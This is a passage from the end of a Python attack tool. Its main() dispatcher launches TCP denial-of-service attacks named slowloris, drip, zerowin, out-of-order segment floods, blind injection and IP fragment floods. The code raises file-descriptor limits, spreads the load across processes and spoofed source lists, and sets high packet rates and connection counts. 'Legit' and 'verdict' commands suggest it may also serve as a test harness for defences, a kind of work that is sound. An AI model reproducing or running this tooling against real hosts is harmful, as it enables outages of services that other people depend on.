        return legit(cmd[6:], pos[0], int(pos[1]), pos[2], float(pos[3]), pos[4], pos[5] if len(pos) > 5 else None)
    if cmd in ("drip", "zerowin", "slowloris"):
        hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
        dst, port, srcs, secs = pos[0], int(pos[1]), pos[2].split(","), float(pos[3])
        n = opt.get("connections", {"drip": 8, "zerowin": 200, "slowloris": 4500}[cmd])
        ivl = opt.get("interval-ms")
        if procs > 1:
            return run_procs(procs, lambda k, ready: kernel_attack(
                cmd, dst, port, worker_srcs(srcs, procs, k), worker_share(n, procs, k), secs, ivl))
        return kernel_attack(cmd, dst, port, srcs, n, secs, ivl)
    if cmd == "ooo":
        hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
        srcs, n, segs, pps = pos[2].split(","), opt.get("connections", 28), opt.get("segments", 256), \
            opt.get("pps", 14000)
        if procs > 1:
            return run_procs(procs, lambda k, ready: ooo(
                pos[0], int(pos[1]), worker_srcs(srcs, procs, k)[0], pos[3], float(pos[4]),
                worker_share(n, procs, k), segs, worker_share(pps, procs, k), ready))
        ooo(pos[0], int(pos[1]), srcs[0], pos[3], float(pos[4]), n, segs, pps)
        return 0
    if cmd == "blind":
        blind(pos[0], int(pos[1]), pos[2], pos[3], float(pos[4]), opt.get("pps", 4000))
        return 0
    if cmd == "frags":
        frags(pos[0], pos[1], pos[2], pos[3], float(pos[4]), opt.get("pps", 0))
        return 0
    if cmd == "verdict":
        return verdict(pos[0], pos[1])
    sys.exit("unknown command " + cmd)


if __name__ == "__main__":
    try:
        sys.exit(main())
    except Stop:
        sys.exit(143)
